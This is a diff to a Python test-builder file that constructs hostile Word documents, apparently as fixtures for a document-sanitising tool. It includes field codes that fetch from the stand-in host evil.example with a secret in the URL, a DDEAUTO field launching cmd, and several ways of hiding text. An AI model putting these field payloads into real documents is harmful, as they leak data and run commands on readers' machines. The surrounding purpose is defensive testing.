@@ -36,6 +36,8 @@ from tests.files.builders import (
     telling_pdf,
 )
 
+WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+
 
 @dataclass(frozen=True, slots=True)
 class Hostile:
@@ -263,6 +265,94 @@ def hidden_words() -> bytes:
     )
 
 
+def field(instruction: str, shown: str) -> str:
+    """As Word writes one: marks around its instruction and what it shows."""
+    marks = [f'<w:r><w:fldChar w:fldCharType="{each}"/></w:r>' for each in ("begin", "separate", "end")]
+    code = f"<w:r><w:instrText>{instruction}</w:instrText></w:r><w:r><w:t>{SECRET}</w:t></w:r>"
+    return f"{marks[0]}{code}{marks[1]}<w:r><w:t>{shown}</w:t></w:r>{marks[2]}"
+
+
+FIELDS = (
+    f'INCLUDEPICTURE "http://evil.example/{SECRET}.png" \\d',
+    f'INCLUDETEXT "http://evil.example/{SECRET}"',
+    f"DDEAUTO c:\\cmd {SECRET}",
+    f"LINK Excel.Sheet c:\\{SECRET}",
+    f"AUTHOR {SECRET}",
+)
+
+
+def docx_with_fields() -> bytes:
+    """Also one inside the instruction of another, and one that is never closed."""
+    inside = "".join(field(each, "Shown.") for each in FIELDS)
+    simple = f'<w:fldSimple w:instr="{FIELDS[2]}"><w:r><w:t>Shown.</w:t></w:r></w:fldSimple>'
+    nested = f"{FIELDS[0]}</w:instrText></w:r>{field('PAGE', SECRET)}<w:r><w:instrText>"
+    unclosed = (
+        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{FIELDS[3]}</w:instrText></w:r>'
+    )
+    return docx_with(f"<w:p>{inside}{simple}{field('PAGE', '7')}{field(nested, 'Shown.')}{unclosed}</w:p>")
+
+
+def hidden_run(properties: str, *, words: str = SECRET) -> str:
+    return f"<w:r><w:rPr>{properties}</w:rPr><w:t>{words}</w:t></w:r>"
+
+
+def docx_with_hidden_words() -> bytes:
+    """By themselves, by a style and the one that it is based on, in a hidden row, and between elements."""
+    style = '<w:style w:type="character" w:styleId="{}"><w:name w:val="{}"/>{}</w:style>'
+    styles = style.format("Gone", "gone", "<w:rPr><w:vanish/></w:rPr>")
+    styles += style.format("Also", "also", '<w:basedOn w:val="Gone"/>')
+    row = f"<w:tr><w:trPr><w:hidden/></w:trPr><w:tc><w:p><w:r><w:t>{SECRET}</w:t></w:r></w:p></w:tc></w:tr>"
+    table = f"<w:tbl><w:tblPr/><w:tblGrid/>{row}<w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>"
+    runs = [
+        *map(hidden_run, ("<w:vanish/>", '<w:rStyle w:val="Gone"/>', '<w:rStyle w:val="Also"/>')),
+        hidden_run('<w:vanish w:val="0"/>', words="Shown."),
+        hidden_run("<w:webHidden/>", words="Shown."),
+    ]
+    control = (
+        f'<w:sdt><w:sdtPr><w:tag w:val="{SECRET}"/></w:sdtPr><w:sdtContent>{runs[3]}</w:sdtContent></w:sdt>'
+    )
+    bookmark = f'<w:bookmarkStart w:id="5" w:name="{SECRET}"/><w:bookmarkEnd w:id="5"/>'
+    body = f"<w:p>{SECRET}{''.join(runs)}{control}{bookmark}</w:p>{table}"
+    content = docx_with(body)
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        known = archive.read("word/styles.xml")
+    return with_parts(
+        content, {"word/styles.xml": known.replace(b"</w:styles>", styles.encode() + b"</w:styles>")}
+    )
+
+
+def docx_with_unread_parts() -> bytes:
+    """A header that no section names, a picture that is none, and another program's part."""
+    content = plain_docx()
+    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    rows = "".join(
+        f'<Relationship Id="rId80{n}" Type="{kinds}/{kind}" Target="{name}"/>'
+        for n, (kind, name) in enumerate((("header", "header9.xml"), ("theme", "x.bin"), ("image", "y.png")))
+    )
+    header = f'<w:hdr xmlns:w="{WORD}"><w:p><w:r><w:t>{SECRET}</w:t></w:r></w:p></w:hdr>'
+    types = (
+        '<Default Extension="bin" ContentType="application/octet-stream"/>'
+        '<Default Extension="png" ContentType="image/png"/>'
+        '<Override PartName="/word/header9.xml" ContentType='
+        '"application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/></Types>'
+    )
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        relations = archive.read("word/_rels/document.xml.rels")
+        known = archive.read("[Content_Types].xml")
+    return with_parts(
+        content,
+        {
+            "word/_rels/document.xml.rels": relations.replace(
+                b"</Relationships>", rows.encode() + b"</Relationships>"
+            ),
+            "[Content_Types].xml": known.replace(b"</Types>", types.encode()),
+            "word/header9.xml": header.encode(),
+            "word/x.bin": SECRET.encode(),
+            "word/y.png": SECRET.encode(),
+        },
+    )
+
+
 def jpeg_with_thumbnail() -> bytes:
     """A small picture inside the EXIF that shows what was cut away."""
     small = picture("JPEG") + SECRET.encode()
@@ -385,6 +475,9 @@ HOSTILE: tuple[Hostile, ...] = (
     Hostile("a program that is called a PDF", "program.pdf", lambda: b"MZ\x90\x00" * 100),
     Hostile("author, comment, tracked change, macro, carried file", "all.docx", telling_docx),
     Hostile("deleted words", "deleted.docx", hidden_words),
+    Hostile("fields that fetch, link and start", "fields.docx", docx_with_fields),
+    Hostile("hidden words", "vanish.docx", docx_with_hidden_words),
+    Hostile("parts that nothing shows", "unread.docx", docx_with_unread_parts),
     Hostile("facts of one's own and custom XML", "custom.docx", docx_with_custom_facts),
     Hostile("a thumbnail", "thumbnail.docx", docx_with_thumbnail),
     Hostile("a picture that tells its place", "picture.docx", docx_with_telling_picture),
